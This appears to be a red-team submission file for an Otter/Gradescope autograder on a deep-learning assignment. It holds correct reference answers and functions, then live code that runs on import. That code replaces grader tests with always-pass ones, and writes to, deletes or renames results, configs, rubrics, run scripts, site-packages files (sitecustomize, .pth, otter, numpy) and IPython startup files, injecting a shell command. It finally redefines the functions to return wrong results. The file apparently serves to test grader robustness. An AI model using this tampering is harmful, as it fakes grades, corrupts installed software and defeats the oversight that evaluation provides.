"""Red team 90_write_everywhere.

Attack: Answer nothing right, but try to write, append to, replace or delete every file that
decides or reports a grade: Otter's test files (replaced by tests that always pass, both
in Gradescope's /autograder and relative to the working folder, where plain Otter keeps
them), results.json, otter_config.json, the casebook and rubrics, run_otter.py, the
installed packages (a .pth file, sitecustomize, autograder, otter and numpy themselves),
IPython's startup folder; leave markers where it can.

Deserves: the short answers only (8); no marker, no grading file changed.
"""

# --------------------------------------------------------------------------------------------
# The reference answers and functions (honest part of this file).
# --------------------------------------------------------------------------------------------
import numpy as np

Q1_I = (
    'Downsampling (pooling or strided convolution) shrinks the feature maps, so a deep '
    'network with many channels stays affordable in memory and computation, and it '
    'enlarges the receptive field of later layers so that they capture global semantic '
    'context (what is in the image, not only local texture). But semantic segmentation '
    'needs a dense, per-pixel prediction at the size of the input, so the coarse feature '
    'maps are then upsampled (transposed convolution, unpooling or interpolation, often '
    'with skip connections) to restore the spatial resolution and localise boundaries.'
)

Q1_III = (
    'A dilated (atrous) convolution spreads the kernel taps apart, so its receptive field'
    ' grows with the dilation rate (exponentially when rates are stacked) and it sees '
    'larger, multi-scale context. It does so without pooling or striding, so the feature '
    'maps keep their full resolution and fine spatial detail, which matters for dense '
    'prediction such as segmentation. And it adds no extra parameters and no extra '
    'computation per output compared with the ordinary kernel of the same size.'
)

Q2 = (
    'The key difference is the latent space: a VQ-VAE has a discrete latent, while a '
    "VAE's latent is continuous. In a VAE the encoder outputs the mean and variance of a "
    'Gaussian posterior, a latent is sampled from it with the reparameterisation trick, '
    'and a KL term regularises the posterior toward a prior (usually a standard normal). '
    'In a VQ-VAE each encoder output vector is replaced by its nearest vector in a '
    'learned codebook (vector quantisation); there is no sampling or KL term, gradients '
    'pass the quantisation with a straight-through estimator, codebook and commitment '
    'losses train the embeddings, and a separate autoregressive prior (e.g. PixelCNN) is '
    'fit over the discrete codes for generation.'
)

Q3 = (
    'A GAN has two networks: a generator G that maps random noise z to a sample G(z), and'
    ' a discriminator D that outputs the probability that its input is real rather than '
    'generated. They are trained against each other in a two-player minimax game, min_G '
    'max_D E_x[log D(x)] + E_z[log(1 - D(G(z)))]: the discriminator maximises its success'
    ' at telling real data from generated samples, while the generator tries to fool it '
    'by making D(G(z)) large. The aim is that the generated samples become '
    "indistinguishable from real data, i.e. the generator's distribution matches the data"
    ' distribution, at which point the optimal discriminator outputs 1/2 everywhere.'
)

NETWORK_Q1_II = [(3, 1), (5, 2), (5, 1)]


def receptive_field(layers):
    field, jump = 1, 1
    for layer in layers:
        kernel_size, stride = int(layer[0]), int(layer[1])
        dilation = int(layer[2]) if len(layer) > 2 else 1
        field += dilation * (kernel_size - 1) * jump
        jump *= stride
    return field


def transposed_conv2d(x, kernel, stride=1, padding=0, dilation=1):
    x = np.asarray(x)
    kernel = np.asarray(kernel)
    if x.ndim != 2 or kernel.ndim != 2 or x.size == 0 or kernel.size == 0:
        raise ValueError("x and kernel must be non-empty 2-D arrays")
    h, w = x.shape
    kh, kw = kernel.shape
    full_h = (h - 1) * stride + dilation * (kh - 1) + 1
    full_w = (w - 1) * stride + dilation * (kw - 1) + 1
    out = np.zeros((full_h, full_w), dtype=np.result_type(x, kernel))
    span_h, span_w = (h - 1) * stride + 1, (w - 1) * stride + 1
    for p in range(kh):
        for q in range(kw):
            out[p * dilation:p * dilation + span_h:stride,
                q * dilation:q * dilation + span_w:stride] += kernel[p, q] * x
    return out[padding:full_h - padding, padding:full_w - padding]


# --------------------------------------------------------------------------------------------
# The attack.
# --------------------------------------------------------------------------------------------
import os as _os
import site as _site
import sysconfig as _sysconfig

_PASS = ("OK_FORMAT = True\ntest = {'name': '%s', 'points': 2, 'suites': [{'cases': [{'code': "
         "'>>> True\\nTrue', 'hidden': False, 'locked': False}], 'scored': True, 'setup': '', "
         "'teardown': '', 'type': 'doctest'}]}\n")
for _folder in ("/autograder/source/tests", "/autograder/submission/tests", "tests",
                "../source/tests", "../submission/tests"):
    for _name in ("q1_ii", "q1_iv"):
        try:
            with open(f"{_folder}/{_name}.py", "w") as _handle:
                _handle.write(_PASS % _name)
        except OSError:
            pass
_targets = ["/autograder/results/results.json", "/autograder/results/A2-REDTEAM-MARKER-write",
            "/autograder/source/otter_config.json",
            "/autograder/source/files/a2-grading/casebook.json",
            "/autograder/source/files/a2-grading/rubrics/q3.yaml",
            "/autograder/source/run_otter.py", "/autograder/run_autograder",
            "/root/.ipython/profile_default/startup/00-A2-REDTEAM-MARKER.py"]
for _folder in {_sysconfig.get_paths()["purelib"], _sysconfig.get_paths()["platlib"],
                *getattr(_site, "getsitepackages", lambda: [])()}:
    _targets += [f"{_folder}/A2-REDTEAM-MARKER.pth", f"{_folder}/sitecustomize.py",
                 f"{_folder}/autograder/__init__.py", f"{_folder}/otter/__init__.py",
                 f"{_folder}/numpy/__init__.py"]
for _path in _targets:
    for _mode in ("a", "w"):
        try:
            with open(_path, _mode) as _handle:
                _handle.write("\nimport os; os.system('touch /tmp/A2-REDTEAM-MARKER-ran')\n")
        except OSError:
            pass
    try:
        _os.unlink(_path)
    except OSError:
        pass
    try:
        _os.rename(_path, _path + ".moved")
    except OSError:
        pass


def receptive_field(layers):
    return -1


def transposed_conv2d(x, kernel, stride=1, padding=0, dilation=1):
    return [[-1]]
